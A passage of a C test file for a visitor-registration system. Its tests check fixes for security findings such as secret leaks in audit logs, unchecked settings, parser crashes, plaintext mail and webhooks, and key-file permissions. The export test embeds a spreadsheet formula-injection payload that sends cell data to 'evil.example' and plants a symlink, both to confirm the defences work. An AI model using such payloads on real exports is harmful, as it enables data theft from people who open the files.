/* SPDX-FileCopyrightText: 2026 The Frontdesk authors
 * SPDX-License-Identifier: GPL-3.0-or-later */
#define _GNU_SOURCE  /* memmem */
#include <glib/gstdio.h>
#include <sqlite3.h>
#include <string.h>
#include <unistd.h>
#include <utime.h>

#include "fd-badge.h"
#include "fd-error.h"
#include "fd-i18n.h"
#include "fd-model.h"
#include "fd-secret.h"
#include "fd-notify.h"
#include "fd-settings.h"
#include "fd-test-smtp.h"
#include "fd-test-util.h"

/* What a security reviewer and a fuzzer found: secrets in the audit log,
 * mail and webhooks in clear, settings unchecked when written, and inputs
 * that crashed the parsers.  Each test is one finding of the "Trust"
 * issue, through the core or frontdeskctl as a user would meet it. */

static int
ctl (const char  *db,
     const char  *password,
     char       **out,
     char       **err,
     ...)
{
  va_list ap;
  int status;

  if (password != NULL)
    g_setenv ("FRONTDESK_PASSWORD", password, TRUE);
  else
    g_unsetenv ("FRONTDESK_PASSWORD");
  va_start (ap, err);
  status = fd_test_ctlv (db, out, err, ap);
  va_end (ap);
  g_unsetenv ("FRONTDESK_PASSWORD");
  return status;
}

/* Finding 2: an administrator sets the mail server (with its password) and
 * a chat robot's address (with its key).  Security may read the audit log,
 * and must find who changed which key, but neither secret. */
static void
test_secrets_not_audited (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (FALSE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autoptr(GPtrArray) audit = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  gboolean named_smtp = FALSE;
  gboolean company_value = FALSE;

  g_assert_true (fd_store_change_setting (store, admin, "smtp_url", "smtps://frontdesk:Pa55-w0rd@mail.example.com:465",
                                          &error));
  g_assert_no_error (error);
  g_assert_true (fd_store_change_setting (store, admin, "webhook_wecom_url",
                                          "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=ROBOTKEY123", &error));
  g_assert_true (fd_store_change_setting (store, admin, "webhook_dingtalk_secret", "SECdingding42", &error));
  g_assert_true (fd_store_change_setting (store, admin, "company_name", "星河科技", &error));
  g_assert_no_error (error);

  audit = fd_store_list_audit (store, security, 100, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < audit->len; i++)
    {
      FdAuditEntry *entry = audit->pdata[i];
      g_autofree char *line = g_strjoin ("|", entry->actor, entry->action, entry->subject ? entry->subject : "",
                                         entry->detail ? entry->detail : "", NULL);

      g_assert_null (strstr (line, "Pa55-w0rd"));
      g_assert_null (strstr (line, "ROBOTKEY123"));
      g_assert_null (strstr (line, "SECdingding42"));
      named_smtp |= g_strcmp0 (entry->subject, "smtp_url") == 0;
      company_value |= g_strcmp0 (entry->subject, "company_name") == 0 && g_strcmp0 (entry->detail, "星河科技") == 0;
    }
  g_assert_true (named_smtp);
  g_assert_true (company_value);  /* a setting that is no secret keeps its value */

  /* The same through frontdeskctl, as the security officer reads it. */
  g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--user", "test-security", "audit", "list",
                        NULL), ==, 0);
  g_assert_nonnull (strstr (out, "smtp_url"));
  g_assert_null (strstr (out, "Pa55-w0rd"));
  g_assert_null (strstr (out, "ROBOTKEY123"));
}

/* Finding 8 and 11 (d): settings are checked when written.  A retention
 * of 999999999999 days (which overflowed into "purge everything"), an
 * unknown key, topics that are not topics are refused; a retention below
 * 90 days needs its confirmation through frontdeskctl too. */
static void
test_settings_checked (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  const char *db = fd_store_get_path (store);
  static const char * const bad_topics[] = {
    "[{\"zh\":1,\"host_id\":1}]",
    "[1]",
    "[{\"zh\":\"产品\",\"host_id\":{\"x\":1}}]",
    "[{\"zh\":\"产品\"}]",
    "[{\"zh\":\"\",\"host_id\":1}]",
    "[{\"zh\":\"产品\",\"en\":[],\"host_id\":1}]",
    "{\"zh\":\"产品\",\"host_id\":1}",
    "[{\"zh\":\"产品\",\"host_id\":1.5}]",
    "[{\"zh\":\"a\\u0001b\",\"host_id\":1}]",
    "",
  };
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *kept = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (bad_topics); i++)
    {
      g_autoptr(GError) error = NULL;

      if (*bad_topics[i] == '\0')
        continue;  /* empty: "not set", allowed */
      g_test_message ("topics: %s", bad_topics[i]);
      g_assert_false (fd_store_change_setting (store, admin, "kiosk_topics", bad_topics[i], &error));
      g_assert_error (error, FD_ERROR, FD_ERROR_INVALID);
    }
  {
    g_autoptr(GError) error = NULL;

    g_assert_false (fd_store_change_setting (store, admin, "retention_days", "999999999999", &error));
    g_assert_error (error, FD_ERROR, FD_ERROR_INVALID);
  }
  {
    g_autoptr(GError) error = NULL;

    g_assert_false (fd_store_change_setting (store, admin, "retention_dayz", "120", &error));
    g_assert_error (error, FD_ERROR, FD_ERROR_NOT_FOUND);
  }
  {
    g_autoptr(GError) error = NULL;

    g_assert_false (fd_store_change_setting (store, admin, "print_policy", "sometimes", &error));
    g_assert_error (error, FD_ERROR, FD_ERROR_INVALID);
  }

  /* Below 90 days: refused without the confirmation, in the user's
   * language, and kept as it was. */
  g_assert_cmpint (ctl (db, "1357", &out, &err, "--lang", "zh_CN", "--user", "test-admin", "settings", "set",
                        "retention_days", "30", NULL), !=, 0);
  g_test_message ("%s", err);
  g_assert_nonnull (strstr (err, "90"));
  g_assert_null (strstr (err, "Visits are kept"));  /* said in Chinese */
  kept = fd_store_get_setting (store, "retention_days", "90");
  g_assert_cmpstr (kept, ==, "90");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (ctl (db, "1357", &out, &err, "--user", "test-admin", "settings", "set", "retention_days", "30",
                        "--confirm-shorter", NULL), ==, 0);
  g_clear_pointer (&kept, g_free);
  kept = fd_store_get_setting (store, "retention_days", "90");
  g_assert_cmpstr (kept, ==, "30");
}

/* Finding 11 (d): a huge retention written into the file before settings
 * were checked is read as the longest allowed one: a purge removes
 * nothing recent, where the overflow made it remove every finished visit. */
static void
test_retention_overflow (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(GError) error = NULL;
  gint64 host_id = fd_test_host_id (store, "王芳", NULL);
  gint64 visit = fd_test_add_visit (store, "李雷", "13812345678", host_id);
  gint64 n = -1;
  sqlite3 *db = NULL;

  g_assert_true (fd_store_checkout (store, fd_test_staff (), visit, &error));
  g_assert_no_error (error);
  g_assert_cmpint (sqlite3_open (fd_store_get_path (store), &db), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, "INSERT INTO settings (key, value, updated_ms) VALUES "
                                     "('retention_days', '999999999999', 0) ON CONFLICT (key) DO UPDATE SET "
                                     "value = excluded.value", NULL, NULL, NULL), ==, SQLITE_OK);
  sqlite3_close (db);

  g_assert_true (fd_store_purge (store, admin, TRUE, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpint (n, ==, 0);
}

/* Finding 11 (b): topics whose label is not a string, entries that are
 * not objects, an object as host_id: refused as a whole, never a NULL
 * label for the kiosk (criticals are fatal in the tests). */
static void
test_topics_parse (void)
{
  g_autoptr(GPtrArray) topics = NULL;
  g_autoptr(GError) error = NULL;
  FdTopic *topic;

  topics = fd_topics_parse ("[{\"zh\":1,\"host_id\":1}]", &error);
  g_assert_null (topics);
  g_assert_error (error, FD_ERROR, FD_ERROR_INVALID);
  g_clear_error (&error);
  topics = fd_topics_parse ("[null, \"x\", {\"zh\":\"产品\",\"host_id\":1}]", &error);
  g_assert_null (topics);
  g_clear_error (&error);
  topics = fd_topics_parse ("\xff[", &error);
  g_assert_null (topics);
  g_clear_error (&error);

  topics = fd_topics_parse ("[{\"zh\":\" 产品咨询 \",\"host_id\":3},{\"zh\":\"招聘\",\"en\":\"Jobs\",\"host_id\":4}]",
                            &error);
  g_assert_no_error (error);
  g_assert_cmpuint (topics->len, ==, 2);
  topic = topics->pdata[0];
  g_assert_cmpstr (topic->zh, ==, "产品咨询");
  g_assert_cmpstr (topic->en, ==, "产品咨询");  /* no English: the Chinese */
  g_assert_cmpint (topic->host_id, ==, 3);
  topic = topics->pdata[1];
  g_assert_cmpstr (topic->en, ==, "Jobs");
}

/* Finding 11 (a): the 13-byte host file "name,lang / A,<U+0001>" crashed
 * frontdeskctl hosts import.  Now it is refused with the line named, and
 * nothing is imported. */
static void
test_import_control_lang (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (FALSE);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *csv = g_build_filename (dir, "hosts.csv", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr(GPtrArray) hosts = NULL;

  g_assert_true (g_file_set_contents (csv, "name,lang\nA,\x01\n", 13, NULL));
  g_assert_cmpint (ctl (fd_store_get_path (store), NULL, &out, &err, "--lang", "en", "hosts", "import", csv, NULL), ==, 1);
  g_test_message ("%s", err);
  g_assert_nonnull (strstr (err, "Line 2"));
  g_assert_nonnull (strstr (err, "\\001"));  /* the bad byte, shown escaped */
  hosts = fd_store_list_hosts (store, FALSE, NULL);
  g_assert_cmpuint (hosts->len, ==, 0);
}

/* Finding 11 (e): the last day a date can hold has no next day. */
static void
test_export_far_date (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *file = g_build_filename (dir, "far.csv", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  gint64 start, end;

  g_assert_nonnull (admin);  /* the account frontdeskctl logs in with */
  g_assert_false (fd_day_range ("9999-12-31", &start, &end));
  g_assert_true (fd_day_range ("9999-12-30", &start, &end));
  g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--user", "test-admin", "export", "--from",
                        "9999-12-31", "--to", "9999-12-31", file, NULL), !=, 0);
  g_assert_false (g_file_test (file, G_FILE_TEST_EXISTS));
}

/* Builds a little-endian .mo catalogue of @n pairs, with @lengths as the
 * strings' lengths; @last_nul: whether the last string ends with its NUL. */
static GBytes *
make_mo (const char * const *strings,
         const guint32      *lengths,
         guint32             n,
         gboolean            last_nul)
{
  g_autoptr(GByteArray) mo = g_byte_array_new ();
  guint32 header[7] = { 0x950412de, 0, n, 28, 28 + n * 8, 0, 0 };
  guint32 offset = 28 + n * 16;

  g_byte_array_append (mo, (guint8 *) header, sizeof header);
  for (guint32 pass = 0; pass < 2; pass++)
    for (guint32 i = pass; i < 2 * n; i += 2)
      {
        guint32 entry[2] = { lengths[i], offset };

        g_byte_array_append (mo, (guint8 *) entry, sizeof entry);
        offset += strlen (strings[i]) + 1;
      }
  for (guint32 pass = 0; pass < 2; pass++)
    for (guint32 i = pass; i < 2 * n; i += 2)
      g_byte_array_append (mo, (guint8 *) strings[i], strlen (strings[i]) + (i + 1 < 2 * n || last_nul ? 1 : 0));
  return g_byte_array_free_to_bytes (g_steal_pointer (&mo));
}

/* Finding 11 (f): a catalogue whose last string does not end inside the
 * file (its length says it ends earlier, but no NUL is there) gives no
 * translation for it, instead of a string read past the catalogue; the
 * good entry still works. */
static void
test_mo_damaged (void)
{
  static const char * const strings[] = { "Hello", "你好", "Bye", "再见" };
  static const guint32 lengths[] = { 5, 6, 3, 6 };
  static const guint32 short_last[] = { 5, 6, 3, 3 };
  g_autoptr(GBytes) intact = make_mo (strings, lengths, 2, TRUE);
  g_autoptr(GBytes) unterminated = make_mo (strings, short_last, 2, FALSE);
  g_autoptr(GHashTable) table = NULL;

  table = fd_i18n_parse_mo (intact);
  g_assert_cmpstr (g_hash_table_lookup (table, "Hello"), ==, "你好");
  g_assert_cmpstr (g_hash_table_lookup (table, "Bye"), ==, "再见");
  g_clear_pointer (&table, g_hash_table_unref);

  table = fd_i18n_parse_mo (unterminated);
  g_assert_cmpstr (g_hash_table_lookup (table, "Hello"), ==, "你好");
  g_assert_null (g_hash_table_lookup (table, "Bye"));
}

/* Finding 11 (c) and 3: a chat robot that answers 200 with no body is a
 * failure, not a critical in the sender; an http:// robot gets nothing
 * until an administrator allows plain HTTP. */
static void
test_webhooks (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *log = g_build_filename (dir, "webhooks.jsonl", NULL);
  g_autofree char *script = g_build_filename (g_getenv ("FD_SOURCE_DIR"), "tests", "webhook-server.py", NULL);
  g_autofree char *port_text = NULL;
  g_autofree char *url = NULL;
  g_autoptr(GSubprocess) server = NULL;
  g_autoptr(GError) error = NULL;
  int port = fd_test_free_port ();

  port_text = g_strdup_printf ("%d", port);
  server = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE, &error,
                             "/usr/bin/python3", script, port_text, log, "s3cr3t", NULL);
  g_assert_no_error (error);
  g_assert_true (fd_test_wait_until (fd_test_port_open, GINT_TO_POINTER (port), 10000));

  url = g_strdup_printf ("http://127.0.0.1:%d/wecom", port);
  g_assert_true (fd_store_set_setting (store, "webhook_wecom_url", url, NULL));
  g_assert_false (fd_notify_send (store, "wecom", "13800000009", NULL, "有位访客", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_IO);
  g_assert_nonnull (strstr (error->message, "https://"));
  g_assert_null (strstr (error->message, "127.0.0.1"));  /* the address may carry a key */
  g_assert_false (g_file_test (log, G_FILE_TEST_EXISTS));  /* nothing reached the robot */
  g_clear_error (&error);

  g_assert_true (fd_store_set_setting (store, "webhook_allow_http", "true", NULL));
  g_assert_true (fd_notify_send (store, "wecom", "13800000009", NULL, "有位访客", &error));
  g_assert_no_error (error);

  g_clear_pointer (&url, g_free);
  url = g_strdup_printf ("http://127.0.0.1:%d/empty", port);
  g_assert_true (fd_store_set_setting (store, "webhook_wecom_url", url, NULL));
  g_assert_false (fd_notify_send (store, "wecom", "13800000009", NULL, "有位访客", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_IO);

  g_subprocess_force_exit (server);
  g_subprocess_wait (server, NULL, NULL);
}

/* Finding 3: a mail server that offers no STARTTLS gets neither the
 * password nor the message; with plain mail allowed by an administrator
 * the same server does get them (so this test can see the wire). */
static void
test_mail_needs_tls (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *log = g_build_filename (dir, "wire.log", NULL);
  g_autofree char *script = g_build_filename (g_getenv ("FD_SOURCE_DIR"), "tests", "smtp-wire.py", NULL);
  g_autofree char *port_text = NULL;
  g_autofree char *url = NULL;
  g_autofree char *wire = NULL;
  g_autoptr(GSubprocess) server = NULL;
  g_autoptr(GError) error = NULL;
  int port = fd_test_free_port ();
  /* AUTH PLAIN's base64 of "\0frontdesk\0Pa55-w0rd" */
  g_autofree char *auth = g_base64_encode ((const guchar *) "\0frontdesk\0Pa55-w0rd", 20);

  port_text = g_strdup_printf ("%d", port);
  server = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE, &error,
                             "/usr/bin/python3", script, port_text, log, NULL);
  g_assert_no_error (error);
  g_assert_true (fd_test_wait_until (fd_test_port_open, GINT_TO_POINTER (port), 10000));

  url = g_strdup_printf ("smtp://frontdesk:Pa55-w0rd@127.0.0.1:%d", port);
  g_assert_true (fd_store_set_setting (store, "smtp_url", url, NULL));
  g_assert_false (fd_notify_send (store, "email", "wang@example.com", "访客到访", "李雷在前台等您。", &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_IO);
  g_assert_nonnull (strstr (error->message, "STARTTLS"));
  g_assert_null (strstr (error->message, "Pa55-w0rd"));
  g_clear_error (&error);
  g_assert_true (g_file_get_contents (log, &wire, NULL, NULL));
  g_test_message ("wire without TLS:\n%s", wire);
  g_assert_nonnull (strstr (wire, "EHLO"));
  g_assert_null (strstr (wire, "AUTH"));
  g_assert_null (strstr (wire, auth));
  g_assert_null (strstr (wire, "MAIL FROM"));
  g_assert_null (strstr (wire, "DATA"));

  g_assert_true (fd_store_set_setting (store, "smtp_allow_plain", "true", NULL));
  g_assert_true (fd_notify_send (store, "email", "wang@example.com", "访客到访", "李雷在前台等您。", &error));
  g_assert_no_error (error);
  g_clear_pointer (&wire, g_free);
  g_assert_true (g_file_get_contents (log, &wire, NULL, NULL));
  g_assert_nonnull (strstr (wire, "AUTH"));
  g_assert_nonnull (strstr (wire, "DATA"));

  g_subprocess_force_exit (server);
  g_subprocess_wait (server, NULL, NULL);
}

/* Finding 8: "frontdeskctl visits correct 1 bogus x" crashed; it is a
 * usage error.  The visit-log search takes % and _ literally. */
static void
test_correct_and_search (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  gint64 host_id = fd_test_host_id (store, "王芳", NULL);
  gint64 visit = fd_test_add_visit (store, "A%B", "13812345678", host_id);
  FdVisitQuery query = { "A%B", 0, 0, 0 };
  g_autoptr(GPtrArray) found = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, visit);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  fd_test_add_visit (store, "AxxB", "13812345679", host_id);
  fd_test_add_visit (store, "A_B", "13812345670", host_id);
  g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--lang", "en", "--user", "test-receptionist",
                        "visits", "correct", id, "bogus", "x", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "Only the name, phone, company or purpose"));

  found = fd_store_find_visits (store, reception, &query, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (found->len, ==, 1);
  g_clear_pointer (&found, g_ptr_array_unref);
  query.text = "A_B";
  found = fd_store_find_visits (store, reception, &query, &error);
  g_assert_cmpuint (found->len, ==, 1);
}

/* Finding 5 (b): a key file that went missing is not silently replaced;
 * a key file others can read, or another database's, is refused; all
 * with a clear message, and frontdeskctl says the same. */
static void
test_key_file (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *key = g_build_filename (dir, "frontdesk.key", NULL);
  g_autofree char *moved = g_build_filename (dir, "frontdesk.key.bak", NULL);
  g_autofree char *other_dir = g_dir_make_tmp ("fd-other-XXXXXX", NULL);
  g_autofree char *other = g_build_filename (other_dir, "other.key", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(FdSecret) stranger = NULL;

  fd_test_store_load_key (store);
  g_assert_cmpint (fd_store_add_watch (store, security, NULL, NULL, "11010519491231002X", "test", &error), >, 0);
  g_assert_no_error (error);

  /* Missing: refused, and no new key appears. */
  g_assert_cmpint (g_rename (key, moved), ==, 0);
  g_assert_false (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "missing"));
  g_clear_error (&error);
  g_assert_false (g_file_test (key, G_FILE_TEST_EXISTS));
  g_assert_cmpint (ctl (fd_store_get_path (store), NULL, &out, &err, "--lang", "zh_CN", "hosts", "list", NULL), ==, 1);
  g_test_message ("%s", err);
  g_assert_nonnull (strstr (err, "密钥文件"));
  g_assert_false (g_file_test (key, G_FILE_TEST_EXISTS));

  /* Readable by others: refused. */
  g_assert_cmpint (g_rename (moved, key), ==, 0);
  g_assert_cmpint (g_chmod (key, 0644), ==, 0);
  g_assert_false (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_assert_nonnull (strstr (error->message, "0600"));
  g_clear_error (&error);
  g_assert_cmpint (g_chmod (key, 0600), ==, 0);
  g_assert_true (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_no_error (error);

  /* Another station's key: refused. */
  stranger = fd_secret_load (other, TRUE, &error);
  g_assert_no_error (error);
  g_assert_false (fd_store_load_key (store, other, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_unlink (other);
  g_rmdir (other_dir);
}

/* Finding 5 (c) and (d): only security and administrators see an ID
 * number whole (each time audited); masking counts characters. */
static void
test_reveal_and_mask (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *plain = NULL;
  g_autofree char *id = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  static const struct {
    const char *number;
    const char *masked;
  } masks[] = {
    { "11010519491231002X", "110105********002X" },
    { "AB1234567890", "AB********90" },
    { "E12345678", "E1*****78" },
    { "G1234567", "G*******" },
    { "护照号码一二三四五六七八", "护照********七八" },
    { "AB\xff\xfe" "12345678", "AB********78" },
  };
  gint64 visit;

  for (guint i = 0; i < G_N_ELEMENTS (masks); i++)
    {
      g_autofree char *masked = fd_id_number_mask (masks[i].number);

      g_assert_cmpstr (masked, ==, masks[i].masked);
      g_assert_true (g_utf8_validate (masked, -1, NULL));
    }

  fd_test_store_load_key (store);
  reg->name = g_strdup ("李雷");
  reg->phone = g_strdup ("13812345678");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = fd_store_now_ms (store);
  reg->id_doc_type = g_strdup ("resident-id");
  reg->id_number = g_strdup ("11010519491231002X");
  visit = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  id = g_strdup_printf ("%" G_GINT64_FORMAT, visit);

  g_assert_null (fd_store_reveal_id_number (store, reception, visit, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_cmpint (ctl (fd_store_get_path (store), "1357", &out, &err, "--user", "test-receptionist", "visits",
                        "reveal-id", id, NULL), ==, 1);
  g_assert_null (strstr (out, "11010519491231002X"));
  plain = fd_store_reveal_id_number (store, security, visit, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (plain, ==, "11010519491231002X");
}

static guint
file_mode (const char *path)
{
  GStatBuf st;

  g_assert_cmpint (g_lstat (path, &st), ==, 0);
  return st.st_mode & 0777;
}

/* Finding 7: a company name that is a formula is exported inert (only the
 * phone column keeps "+digits"); the database, its WAL, exports and badge
 * PDFs are 0600 from the start; a symlink planted where the export writes
 * is not followed. */
static void
test_exports_and_files (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *wal = g_strconcat (fd_store_get_path (store), "-wal", NULL);
  g_autofree char *csv = g_build_filename (dir, "visits.csv", NULL);
  g_autofree char *xlsx = g_build_filename (dir, "visits.xlsx", NULL);
  g_autofree char *victim = g_build_filename (dir, "victim.txt", NULL);
  g_autofree char *planted = g_build_filename (dir, "visits.xlsx.part", NULL);
  g_autofree char *pdf = g_build_filename (dir, "badge.pdf", NULL);
  g_autofree char *text = NULL;
  g_autofree char *today = fd_store_today (store);
  g_autoptr(FdVisit) visit = NULL;
  g_autoptr(FdBadge) badge = NULL;
  gint64 id;

  g_assert_cmpuint (file_mode (fd_store_get_path (store)), ==, 0600);
  reg->name = g_strdup ("Eve");
  reg->phone = g_strdup ("+49 151 12345678");
  reg->company = g_strdup ("+1+HYPERLINK(\"http://evil.example/?\"&C2,\"x\")");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = fd_store_now_ms (store);
  id = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (wal), ==, 0600);

  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_CSV, csv, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (csv), ==, 0600);
  g_assert_true (g_file_get_contents (csv, &text, NULL, NULL));
  g_assert_nonnull (strstr (text, "\"'+1+HYPERLINK("));
  g_assert_nonnull (strstr (text, "\"+4915112345678\""));

  g_assert_true (g_file_set_contents (victim, "keep", -1, NULL));
  g_assert_cmpint (symlink (victim, planted), ==, 0);
  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_XLSX, xlsx, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (xlsx), ==, 0600);
  g_clear_pointer (&text, g_free);
  g_assert_true (g_file_get_contents (victim, &text, NULL, NULL));
  g_assert_cmpstr (text, ==, "keep");

  visit = fd_store_get_visit (store, id, &error);
  badge = fd_badge_new_for_visit (visit, "星河科技");
  g_assert_true (fd_badge_write_pdf (badge, FD_BADGE_CR80, pdf, &error));
  g_assert_cmpuint (file_mode (pdf), ==, 0600);
}

static gint64 trust_now;

static gint64
trust_clock (gpointer data)
{
  return trust_now;
}

/* Whether @needle is anywhere in the bytes of @path (absent: FALSE). */
static gboolean
file_holds (const char *path,
            const char *needle)
{
  g_autofree char *data = NULL;
  gsize length = 0;

  if (!g_file_get_contents (path, &data, &length, NULL))
    return FALSE;
  return memmem (data, length, needle, strlen (needle)) != NULL;
}

/* Finding 5 (a): after the purge, a visitor past retention is nowhere in
 * the database's files (the file itself, its WAL and shared memory) while
 * the station keeps running, nor is an invitation never used, nor the
 * badge PDF saved for them; a recent badge stays. */
static void
test_purge_leaves_no_trace (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(FdRegistration) invited = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_path_get_dirname (fd_store_get_path (store));
  g_autofree char *badges = g_build_filename (dir, "badges", NULL);
  g_autofree char *old_badge = g_build_filename (badges, "visitor-badge-000001.pdf", NULL);
  g_autofree char *new_badge = g_build_filename (badges, "visitor-badge-000002.pdf", NULL);
  g_autofree char *code = NULL;
  g_autofree char *day = NULL;
  const char *suffixes[] = { "", "-wal", "-shm" };
  struct utimbuf long_ago;
  gint64 visit;

  trust_now = g_get_real_time () / 1000 - 100LL * 24 * 3600 * 1000;
  fd_store_set_clock (store, trust_clock, NULL);
  fd_test_store_load_key (store);
  reg->name = g_strdup ("紫霞仙子");
  reg->phone = g_strdup ("13912340000");
  reg->company = g_strdup ("水帘洞有限公司");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = trust_now;
  reg->id_doc_type = g_strdup ("resident-id");
  reg->id_number = g_strdup ("11010519491231002X");
  visit = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  trust_now += 3600 * 1000;
  g_assert_true (fd_store_checkout (store, fd_test_staff (), visit, &error));
  invited->name = g_strdup ("至尊宝");
  invited->phone = g_strdup ("13912349999");
  invited->purpose = g_strdup ("面试");
  invited->host_id = reg->host_id;
  day = fd_store_today (store);
  g_assert_cmpint (fd_store_add_invitation (store, fd_test_staff (), invited, day, &code, &error), >, 0);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (suffixes); i++)
    {
      g_autofree char *path = g_strconcat (fd_store_get_path (store), suffixes[i], NULL);

      if (file_holds (path, "紫霞仙子"))
        break;
      g_assert_cmpuint (i, <, G_N_ELEMENTS (suffixes) - 1);  /* the test can see a name */
    }

  g_assert_cmpint (g_mkdir_with_parents (badges, 0700), ==, 0);
  g_assert_true (g_file_set_contents (old_badge, "%PDF 紫霞仙子", -1, NULL));
  g_assert_true (g_file_set_contents (new_badge, "%PDF 李雷", -1, NULL));
  long_ago.actime = long_ago.modtime = trust_now / 1000;
  g_assert_cmpint (utime (old_badge, &long_ago), ==, 0);

  trust_now = g_get_real_time () / 1000;
  g_assert_true (fd_store_housekeeping (store, fd_test_staff (), badges, &error));
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (suffixes); i++)
    {
      g_autofree char *path = g_strconcat (fd_store_get_path (store), suffixes[i], NULL);

      g_test_message ("%s", path);
      g_assert_false (file_holds (path, "紫霞仙子"));
      g_assert_false (file_holds (path, "13912340000"));
      g_assert_false (file_holds (path, "水帘洞"));
      g_assert_false (file_holds (path, "至尊宝"));
    }
  g_assert_false (g_file_test (old_badge, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (new_badge, G_FILE_TEST_EXISTS));
  g_assert_nonnull (reception);
}

/* Finding 6: five wrong passwords in a row pause the account, even for the
 * right password, until the lock runs out (audited, shown to
 * administrators, who can lift it); frontdeskctl says so in the user's
 * language. */
static void
test_login_throttle (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdSession) wang = NULL;
